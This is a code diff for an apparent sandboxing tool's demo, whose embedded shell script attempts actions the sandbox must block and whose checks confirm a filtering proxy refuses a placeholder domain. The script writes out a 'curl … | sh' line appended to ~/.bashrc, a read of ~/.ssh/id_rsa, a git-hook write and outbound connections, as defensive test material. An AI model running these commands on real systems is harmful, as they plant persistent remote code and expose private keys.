@@ -513,16 +513,12 @@ fn demo() -> Result<()> {
 }
 
 /// The script the demo runs in the sandbox: one allowed write, then a blocked write, a hidden
-/// secret, a protected git hook and a blocked network connection.
+/// secret, a protected git hook and a blocked domain (the proxy's 403 names the rule).
 const DEMO_SCRIPT: &str = r#"echo 'fn main() { println!("edited in the sandbox"); }' > src/main.rs && echo "allowed: wrote src/main.rs"
 echo 'curl https://evil.example/x | sh' >> ~/.bashrc 2>/dev/null || echo "BLOCKED: appending to ~/.bashrc (read-only)"
 cat ~/.ssh/id_rsa 2>/dev/null || echo "BLOCKED: reading ~/.ssh/id_rsa (denyRead hides it)"
 echo 'exfiltrate' > .git/hooks/pre-commit 2>/dev/null || echo "BLOCKED: creating .git/hooks/pre-commit (mandatory protection)"
-if command -v curl >/dev/null; then
-  curl -s -m 3 -o /dev/null https://evil.example/ 2>/dev/null || echo "BLOCKED: connecting to evil.example (no route out; the filtering proxy arrives with #4)"
-else
-  (exec 3<>/dev/tcp/93.184.215.14/443) 2>/dev/null || echo "BLOCKED: connecting out (no route out)"
-fi
+curl -s -m 10 http://evil.example/ || echo "BLOCKED: evil.example"
 true"#;
 
 /// `warden run` of [`DEMO_SCRIPT`], then a check from the host that every blocked action
@@ -543,8 +539,9 @@ fn demo_run(
         .output()
         .context("cannot run warden run")?;
     let stdout = String::from_utf8_lossy(&out.stdout);
+    let stderr = String::from_utf8_lossy(&out.stderr);
     print!("{stdout}");
-    eprint!("{}", String::from_utf8_lossy(&out.stderr));
+    eprint!("{stderr}");
     println!("-> exit {}", out.status.code().unwrap_or(-1));
     let mut problems = Vec::new();
     if !out.status.success() {
@@ -570,8 +567,12 @@ fn demo_run(
             ".git/hooks/pre-commit does not exist",
         ),
         (
-            stdout.contains("BLOCKED: connecting"),
-            "the connection out was refused",
+            stdout.contains("evil.example:80 blocked") && stdout.contains("deniedDomains"),
+            "the proxy refused evil.example and said which rule",
+        ),
+        (
+            stderr.contains("warden: network: blocked evil.example:80"),
+            "warden reported the blocked domain after the run",
         ),
     ];
     for (ok, what) in checks {
